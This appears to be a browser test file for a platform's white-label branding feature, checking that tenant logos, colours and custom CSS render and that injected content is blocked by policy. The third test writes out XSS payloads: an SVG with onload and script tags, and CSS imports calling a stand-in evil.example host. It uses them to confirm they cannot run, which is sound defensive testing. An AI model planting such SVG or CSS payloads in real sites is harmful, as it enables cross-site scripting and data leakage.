// White label in a real browser: brands show, and hostile ones cannot act even where the checks had missed them.
import assert from "node:assert/strict";
import { after, before, test } from "node:test";
import { browser, open, tenant } from "./platform.mjs";

const SVG = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 8 8"><rect width="8" height="8" fill="#ffffff"/></svg>').toString("base64");

let chrome;
before(async () => {
  chrome = await browser();
});
after(() => chrome.close());

test("a brand shows on the public page and above the sign-in form", async () => {
  const acme = await tenant("customer");
  await acme.call("PUT", "/api/v1/branding", {
    company_name: "Acme Works", primary_color: "#123456", login_banner: "Staff only", custom_css: "h1{letter-spacing:3px}",
  });
  await acme.call("PUT", "/api/v1/branding/logo", { data: SVG });
  const { page, noted } = await open(await chrome.newContext());
  await page.goto(acme.origin);
  const shown = (selector, property) => page.$eval(selector, (it, name) => getComputedStyle(it)[name], property);
  assert.equal(await page.textContent("h1"), "Acme Works");
  assert.equal(await shown("h1", "letterSpacing"), "3px");
  assert.match(await shown("header", "backgroundImage"), /rgb\(18, 52, 86\)/);
  assert.ok(await page.$eval(".mark img", (image) => image.complete && image.naturalWidth > 0), "the logo is drawn");
  await page.goto(`${acme.origin}/login`);
  assert.equal(await page.textContent(".banner"), "Staff only");
  assert.deepEqual(noted, { away: [], broken: [], dialogs: [] });
});

test("the ugliest style sheet that is allowed covers no form", async () => {
  const acme = await tenant("customer");
  await acme.call("PUT", "/api/v1/branding", {
    custom_css: `.brand, .brand * { margin: 900px; padding: 400px; border: 900px solid #000; font-size: 900px; line-height: 900;
      letter-spacing: -900px; background: #f00; max-width: 1000px }`,
  });
  const { page } = await open(await chrome.newContext());
  await page.goto(`${acme.origin}/login`);
  const covered = await page.$eval(".panel", (panel) => {
    panel.scrollIntoView();
    const box = panel.getBoundingClientRect();
    const at = document.elementFromPoint(box.left + box.width / 2, box.top + box.height / 2);
    return !panel.contains(at);
  });
  assert.equal(covered, false);
});

test("what the checks had missed the policy stops", async () => {
  const acme = await tenant("customer");
  await acme.call("PUT", "/api/v1/branding/logo", { data: SVG });
  const { page, noted } = await open(await chrome.newContext());
  // The real headers with a body that should never have been stored.
  const replace = (pattern, body) => page.route(pattern, async (route) => {
    const response = await route.fetch();
    await route.fulfill({ response, body });
  });
  await replace("**/brand/style.css*", "@import 'https://evil.example/a.css';body{background:url(https://evil.example/b)}");
  const script = "document.title='acted';alert(1);fetch('https://evil.example/')";
  await replace("**/brand/logo*", `<svg xmlns="http://www.w3.org/2000/svg" onload="${script}"><script>${script}</script></svg>`);
  await page.goto(acme.origin);
  await page.goto(`${acme.origin}/brand/logo`);
  assert.notEqual(await page.title(), "acted");
  assert.deepEqual(noted.dialogs, []);
  // The browser tells of requests that a policy stops only as failed ones: none may have had an answer.
  for (const url of noted.away) {
    const answered = await page.evaluate((asked) => performance.getEntriesByName(asked).some((it) => it.responseStatus), url);
    assert.equal(answered, false, url);
  }
});
